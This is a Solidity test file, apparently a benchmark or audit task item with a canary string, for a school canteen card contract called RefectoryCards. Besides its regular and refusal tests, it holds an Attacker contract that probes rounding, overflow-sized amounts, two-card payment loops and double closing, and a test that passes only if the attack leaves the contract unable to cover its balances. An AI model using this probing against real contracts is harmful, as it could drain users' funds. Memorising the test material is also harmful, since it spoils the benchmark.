// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./RefectoryCards.sol";

// assay-canary-e1618d64-4fb6-4cf6-83df-9b843b1437f7

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

contract Penny is ICoin {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor() {
        balanceOf[msg.sender] = 1e15;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        if (asleep) return false;
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (asleep) return false;
        require(allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) private {
        require(balanceOf[from] >= amount, "balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

/// A coin that everybody has as much of as is asked for.
contract Air is ICoin {
    function transfer(address, uint256) external override returns (bool) {
        return true;
    }

    function transferFrom(address, address, uint256) external override returns (bool) {
        return true;
    }
}

contract Attacker {
    RefectoryCards internal cards;
    Penny internal penny;
    address public second;

    constructor(RefectoryCards cards_, Penny penny_) {
        second = address(new Second(cards_));
        cards = cards_;
        penny = penny_;
        penny_.approve(address(cards_), uint256(-1));
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(cards).call(data);
    }

    function run() external {
        _try(abi.encodeWithSelector(cards.load.selector, address(this), 90_000_000));
        // amounts whose price in units is rounded, as many as there are, in both directions
        for (uint256 amount = 1; amount <= 12; ++amount) {
            for (uint256 i = 0; i < 4; ++i) {
                _try(abi.encodeWithSelector(cards.cashOut.selector, amount));
                _try(abi.encodeWithSelector(cards.load.selector, address(this), amount));
            }
        }
        // to and fro between two cards
        for (uint256 amount = 1; amount <= 12; ++amount) {
            _try(abi.encodeWithSelector(cards.pay.selector, second, amount));
            Second(second).back(amount);
            _try(abi.encodeWithSelector(cards.pay.selector, address(this), amount));
        }
        // coins that nobody has asked for
        penny.transfer(address(cards), 5);
        // products and sums that might go around
        _try(abi.encodeWithSelector(cards.cashOut.selector, uint256(-1)));
        _try(abi.encodeWithSelector(cards.cashOut.selector, uint256(-1) / 1e12 + 1));
        _try(abi.encodeWithSelector(cards.pay.selector, address(this), uint256(-1) / 1e12 + 1));
        _try(abi.encodeWithSelector(cards.pay.selector, address(this), uint256(2)**96));
        _try(abi.encodeWithSelector(cards.load.selector, address(this), uint256(-1) / 1e12 + 2));
        _try(abi.encodeWithSelector(cards.load.selector, address(this), 0));
        // the index
        penny.approve(address(cards), uint256(-1));
        _try(abi.encodeWithSelector(cards.subsidise.selector, 1_000_000));
        _try(abi.encodeWithSelector(cards.setLimit.selector, second, 1));
        _try(abi.encodeWithSelector(cards.collect.selector));
        // a card emptied in halves, and closed twice
        for (uint256 i = 0; i < 20; ++i) _try(abi.encodeWithSelector(cards.cashOut.selector, cards.valueOf(address(this)) / 2));
        _try(abi.encodeWithSelector(cards.close.selector));
        _try(abi.encodeWithSelector(cards.close.selector));
    }
}

contract Second {
    RefectoryCards internal cards;

    constructor(RefectoryCards cards_) {
        cards = cards_;
    }

    function back(uint256 amount) external {
        (bool ok, ) = address(cards).call(abi.encodeWithSelector(cards.pay.selector, msg.sender, amount));
        ok;
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    Penny private penny;
    RefectoryCards private cards;
    Attacker private truant;
    address private constant PIA = address(0x91A);
    address private constant QUIN = address(0x9014);
    address private constant SOUP = address(0x5009);

    function setUp() public {
        vm.warp(1_763_000_000);
        penny = new Penny();
        cards = new RefectoryCards(penny);
        penny.approve(address(cards), uint256(-1));
        cards.enrol(PIA, true, false);
        cards.enrol(QUIN, true, false);
        cards.enrol(SOUP, false, true);
        cards.load(PIA, 240_000_000);
        cards.load(QUIN, 240_000_000);
        vm.prank(QUIN);
        cards.pay(SOUP, 1_000_000);
        cards.subsidise(300_000_000);
        cards.subsidise(700_000_000);
        truant = new Attacker(cards, penny);
        cards.enrol(address(truant), true, false);
        cards.enrol(truant.second(), true, false);
        penny.transfer(address(truant), 100_000_000);
    }

    function test_Regular() public {
        // 479 on two cards, and 1000 of the council
        require(cards.valueOf(PIA) > 741_042_000 && cards.valueOf(PIA) <= 741_044_000, "subsidised");
        (bool ok, ) = address(cards).call(abi.encodeWithSelector(cards.load.selector, PIA, 1_000_000));
        require(!ok, "full");
        vm.prank(PIA);
        cards.pay(SOUP, 4_500_000);
        require(cards.takingsOf(SOUP) == 5_500_000, "soup");
        vm.prank(PIA);
        cards.cashOut(4_000_000);
        require(penny.balanceOf(PIA) == 4_000_000, "cashed out");

        vm.prank(PIA);
        cards.askGuardian(address(this));
        cards.setLimit(PIA, 10_000_000);
        vm.prank(PIA);
        (ok, ) = address(cards).call(abi.encodeWithSelector(cards.pay.selector, SOUP, 5_600_000));
        require(!ok, "limit of the day");
        vm.warp(block.timestamp + 1 days);
        vm.prank(PIA);
        cards.pay(SOUP, 5_600_000);
        cards.resign(PIA);
        vm.prank(SOUP);
        require(cards.collect() == 11_100_000 && cards.totalTakings() == 0, "collected");
        vm.prank(PIA);
        require(cards.close() > 726_941_000 && cards.unitsOf(PIA) == 0, "all out");
        (ok, ) = address(cards).call(abi.encodeWithSelector(cards.subsidise.selector, 800_000_000));
        require(!ok, "too much at once");
        cards.enrol(QUIN, false, false);
        (ok, ) = address(cards).call(abi.encodeWithSelector(cards.load.selector, QUIN, 1_000));
        require(!ok, "left the school");
    }

    /// There is a coin for everything that is on a card.
    function covered() public view returns (bool) {
        return penny.balanceOf(address(cards)) >= cards.owed() + cards.totalTakings();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The council's business, and the guardian's.
    function test_RefusesStrangers() public {
        refuses(PIA, "refectory: council only");
        cards.enrol(PIA, true, true);
        penny.transfer(PIA, 1);
        vm.prank(PIA);
        penny.approve(address(cards), 1);
        refuses(PIA, "refectory: council only");
        cards.subsidise(1);
        refuses(QUIN, "refectory: guardian only");
        cards.setLimit(PIA, 1);
        vm.prank(PIA);
        cards.askGuardian(address(this));
        refuses(PIA, "refectory: has a guardian");
        cards.askGuardian(QUIN);
        refuses(PIA, "refectory: guardian only");
        cards.resign(PIA);
    }

    /// Cards of pupils, with room on them and something to put there.
    function test_RefusesCards() public {
        vm.expectRevert("refectory: not a pupil");
        cards.load(address(0xBEE), 1_000);
        vm.expectRevert("refectory: too little");
        cards.load(QUIN, 0);
        refuses(PIA, "refectory: no card");
        cards.pay(address(0xBEE), 1_000);
        refuses(PIA, "refectory: card is full");
        cards.pay(QUIN, 1_000);
        refuses(QUIN, "refectory: not on the card");
        cards.cashOut(2_000_000_000);
    }

    /// Amounts that no book can hold.
    function test_RefusesAmounts() public {
        vm.expectRevert("refectory: amount");
        cards.load(QUIN, 2**96);
        vm.expectRevert("refectory: amount");
        cards.subsidise(2**96);
        refuses(QUIN, "refectory: amount");
        cards.cashOut(2**96);
        vm.prank(QUIN);
        cards.cashOut(1);
        refuses(QUIN, "refectory: sum of the day");
        cards.cashOut(uint256(-1));
    }

    /// An index that grows until no product fits, by a coin that costs nothing.
    function test_RefusesAnIndexThatDoesNotFit() public {
        RefectoryCards other = new RefectoryCards(new Air());
        other.enrol(PIA, true, false);
        other.load(PIA, 1);
        for (uint256 i = 0; i < 56; ++i) other.subsidise(other.owed());
        require(other.index() == 2**56 * 1e12, "doubled each time");
        uint256 amount = other.owed();
        vm.expectRevert("refectory: amount");
        other.subsidise(amount);
    }

    /// A coin that says no is believed.
    function test_RefusesFailedTransfers() public {
        penny.sleep(true);
        vm.expectRevert("refectory: coin");
        cards.load(address(truant), 1_000);
        vm.expectRevert("refectory: coin");
        cards.subsidise(1_000);
        refuses(SOUP, "refectory: coin");
        cards.collect();
        refuses(PIA, "refectory: coin");
        cards.cashOut(1);
        refuses(PIA, "refectory: coin");
        cards.close();
    }

    function exploit() public {
        truant.run();
    }

    function test_Exploit() public {
        require(covered(), "before");
        exploit();
        require(!covered(), "all is covered");
    }

    function target() public view returns (address) {
        return address(cards);
    }

    function attacker() public view returns (address) {
        return address(truant);
    }
}
